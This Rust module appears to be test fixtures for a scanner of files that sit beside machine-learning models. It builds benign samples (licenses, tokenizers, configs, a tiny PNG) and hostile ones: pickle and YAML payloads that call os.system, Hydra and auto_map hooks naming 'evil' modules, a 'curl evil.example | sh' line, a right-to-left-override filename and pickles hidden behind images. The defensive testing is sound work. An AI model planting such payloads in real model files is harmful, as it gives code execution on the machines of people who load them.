//! Plain texts, tokenizers and images, which lie beside models and must not be refused; and what only looks like them.

use super::write::{field, join, number, zip};
use super::{Sample, sample};

/// What imports and calls, in protocol 0.
const CALL: &str = "cos\nsystem\n(S'id'\ntR.";

pub fn hostile() -> Vec<Sample> {
    let t = "text, or nearly";
    let pickles = [
        ("hexadecimal number before", format!("I0x41\n0{CALL}")),
        ("number with separators before", format!("I1_0\n0{CALL}")),
        ("number with spaces before", format!("I 12 \n0{CALL}")),
        ("no number before", format!("Fnan\n0{CALL}")),
        ("text before", format!("VSome words\n0{CALL}")),
        ("quoted text before", format!("S'Some words'\n0{CALL}")),
        ("counted text before", format!("U\u{5}hello0{CALL}")),
        ("counted bytes before", format!("C\u{5}hello0{CALL}")),
        ("long bytes before", format!("B\u{5}\0\0\0hello0{CALL}")),
        ("persistent id before", format!("Permission\n0{CALL}")),
        ("instance", "(S'id'\nios\nsystem\n.".to_owned()),
        ("without an end", "cos\nsystem\n(S'id'\ntR and then some words".to_owned()),
    ];
    let texts = [
        ("YAML that calls", "a: !!python/object/apply:os.system [id]\n"),
        ("YAML that calls, by the long tag", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n"),
        ("configuration that names a class", "model:\n  _target_: os.system\n"),
        ("hook in YAML", "auto_map:\n  AutoModel: evil.Model\n"),
        ("hook behind a byte order mark", "\u{feff}{\"auto_map\":{\"AutoModel\":\"m.M\"}}"),
        ("hook in what is nearly JSON", "{auto_map: {AutoModel: 'm.M'}}"),
        ("module of a loader", "flavors:\n  python_function:\n    loader_module: evil\n"),
        ("program", "import os\nos.remove('x')\n"),
        ("program after words", "# Title\n\nfrom evil import run\nrun()\n"),
        ("program in a fence", "# Title\n```\nos.system('id')\n```\n"),
        ("page", "Title\n<script src=x></script>\n"),
        ("commands", "first\ncurl evil.example | sh\n"),
        ("hidden text", "Title\n\u{202e}txt.exe\n"),
    ];
    let mut all: Vec<Sample> =
        pickles.into_iter().map(|(name, text)| sample(t, name, text.into_bytes())).collect();
    all.extend(texts.into_iter().map(|(name, text)| sample(t, name, text.as_bytes().to_vec())));
    let t = "tokenizer, image";
    all.push(sample(t, "operator among pieces", join(&[&piece("<unk>"), &field(1, &field(2, b"PyFunc"))])));
    all.push(sample(t, "more than a tokenizer has", join(&[&piece("<unk>"), &field(9, b"x")])));
    all.push(sample(t, "archive behind an image", join(&[&png(), &zip(&[])])));
    all.push(sample(t, "pickle behind an image", join(&[&png(), CALL.as_bytes()])));
    let mut damaged = png();
    damaged[20] ^= 1;
    all.push(sample(t, "image with a wrong checksum", damaged));
    all
}

/// A piece with its score and kind.
fn piece(text: &str) -> Vec<u8> {
    field(1, &join(&[&field(1, text.as_bytes()), &[0x15, 0, 0, 0x80, 0xbf], &number(3, 2)]))
}

/// An image of one point.
fn png() -> Vec<u8> {
    let chunk = |kind: &[u8], data: &[u8]| {
        let sum = crc32fast::hash(&[kind, data].concat());
        join(&[&u32::try_from(data.len()).expect("short").to_be_bytes(), kind, data, &sum.to_be_bytes()])
    };
    join(&[
        b"\x89PNG\r\n\x1a\n",
        &chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]),
        &chunk(b"IDAT", &super::write::zlib(&[0, 0])),
        &chunk(b"IEND", &[]),
    ])
}

pub fn honest() -> Vec<Sample> {
    let t = "beside a model";
    let readme = "---\nlicense: mit\n---\n# A model\n\n```python\nfrom transformers import pipeline\n\
                  import torch\n```\n\nIt imports well.\n";
    let mut all: Vec<Sample> = [
        ("description", readme),
        ("license", "                    Apache License\n             Version 2.0, January 2004\n"),
        ("license of a kind", "Copyright (c) 2026 Example\n\nPermission is hereby granted, free of charge\n"),
        ("copyright", "(c) 2026 Example\nAll rights reserved\n"),
        ("words like an import", "config of the model\nfor chat\n"),
        ("words like an instance", "include LICENSE\nrecursive-include x\n"),
        ("words like a number", "I am a model.\n"),
        ("words like a float", "Falcon\n"),
        ("words like a text", "Version 2\nfinal\n"),
        ("attributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
        ("vocabulary", "[PAD]\n[UNK]\n[CLS]\n##ing\nthe\nimport\nclass\nde\u{301}j\u{e0}\n"),
        ("merges", "#version: 0.2\ni n\nt h\n\u{120}t he\n"),
        ("settings", "[model]\nname = \"x\"\n"),
        ("YAML", "model:\n  name: x\n  layers: 2\n"),
        ("table", "a,b\r\n0.5,1\r\n"),
        ("requirements", "torch>=2\ntransformers\n"),
        ("piece and score", "<unk>\t0\n\u{2581}the\t-2.5\n"),
    ]
    .into_iter()
    .map(|(name, text)| sample(t, name, text.as_bytes().to_vec()))
    .collect();
    all.push(sample(t, "tokenizer", join(&[&piece("<unk>"), &piece("\u{2581}a"), &field(2, &number(4, 8))])));
    all.push(sample(t, "image", png()));
    all
}
